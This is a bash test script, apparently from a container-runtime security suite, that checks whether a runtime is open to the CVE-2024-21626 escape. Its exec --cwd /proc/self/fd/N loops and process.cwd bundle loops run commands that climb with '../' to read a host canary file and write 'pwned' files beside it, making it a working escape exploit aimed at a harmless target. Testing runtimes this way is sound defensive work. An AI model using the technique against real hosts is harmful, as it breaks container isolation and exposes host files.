#!/bin/bash
# CVE-2024-21626: a directory fd of the host that the runtime leaks into the process it starts
# in the container becomes its working directory with `--cwd /proc/self/fd/N` (exec) or
# process.cwd = /proc/self/fd/N (the init); from a cwd outside the container's root, `..`
# walks up to the host's / and the host's files are reachable. For N in 3..20 the attack execs
# `sh -c 'cat ../../..<WORK>/canary; echo pwned > ../../..<WORK>/written-N'`, then tries the
# same through process.cwd of new containers (N in 3..12).
# Escaped = the canary (a file in $WORK, outside the container) was read or a file was
# written next to it.
. "$(dirname "$0")/lib.sh"

CANARY=$WORK/canary
SECRET="canary-$$-$RANDOM$RANDOM"
echo "$SECRET" >"$CANARY"
UP=../../../../../../../../../../../../../../..
B=$WORK/bundle
make_bundle "$B"
ID=$ID_PREFIX
rt create --bundle "$B" "$ID" >"$WORK/out" 2>&1 </dev/null ||
    finish error "create failed: $(oneline "$WORK/out")"
rt start "$ID" >>"$WORK/out" 2>&1 || finish error "start failed: $(oneline "$WORK/out")"

refused=0 ran=0
for n in $(seq 3 20); do
    rt exec --cwd "/proc/self/fd/$n" "$ID" sh -c \
        "echo cwd=\$(readlink /proc/self/cwd); cat $UP$CANARY 2>&1; echo pwned-$n >$UP$WORK/written-$n 2>&1" \
        >"$WORK/exec-$n.out" 2>&1 </dev/null && ran=$((ran + 1)) || refused=$((refused + 1))
    log "exec --cwd /proc/self/fd/$n: $(oneline "$WORK/exec-$n.out" 4)"
    if grep -qF "$SECRET" "$WORK/exec-$n.out" || [ -e "$WORK/written-$n" ]; then
        finish escaped "exec --cwd /proc/self/fd/$n: $(grep -o 'cwd=[^ ]*' "$WORK/exec-$n.out" | head -n1); host canary $(grep -qF "$SECRET" "$WORK/exec-$n.out" && echo read)$([ -e "$WORK/written-$n" ] && echo ", file written next to it")"
    fi
done
log "exec: $ran ran, $refused refused"

# The init: process.cwd = /proc/self/fd/N.
for n in $(seq 3 12); do
    B2=$WORK/bundle-$n
    mkdir -p "$B2"
    cp "$B/config.json" "$B2/"
    ln -s "$B/rootfs" "$B2/rootfs"
    cfg "$B2" --arg cwd "/proc/self/fd/$n" --arg cg "$CG_PREFIX-init$n" --arg cmd \
        "echo cwd=\$(readlink /proc/self/cwd); cat $UP$CANARY 2>&1; echo pwned-init-$n >$UP$WORK/written-init-$n 2>&1" \
        '.process.cwd = $cwd | .linux.cgroupsPath = $cg | .process.args = ["sh", "-c", $cmd]'
    # A symlinked root.path is refused by some runtimes: give each bundle its own rootfs path.
    rm "$B2/rootfs"
    mkdir "$B2/rootfs"
    mount --bind "$B/rootfs" "$B2/rootfs"
    rt run --bundle "$B2" "$ID-init$n" >"$WORK/init-$n.out" 2>&1 </dev/null
    log "process.cwd /proc/self/fd/$n: $(oneline "$WORK/init-$n.out" 4)"
    rt delete --force "$ID-init$n" >/dev/null 2>&1
    umount "$B2/rootfs"
    if grep -qF "$SECRET" "$WORK/init-$n.out" || [ -e "$WORK/written-init-$n" ]; then
        finish escaped "process.cwd /proc/self/fd/$n: $(grep -o 'cwd=[^ ]*' "$WORK/init-$n.out" | head -n1); host canary $(grep -qF "$SECRET" "$WORK/init-$n.out" && echo read)$([ -e "$WORK/written-init-$n" ] && echo ", file written next to it")"
    fi
done
[ "$ran" -gt 0 ] || [ "$refused" -gt 0 ] || finish error "no exec ran"
finish blocked "exec --cwd /proc/self/fd/{3..20}: $refused refused, $ran ran inside the container without reaching the host; process.cwd /proc/self/fd/{3..12} did not either"
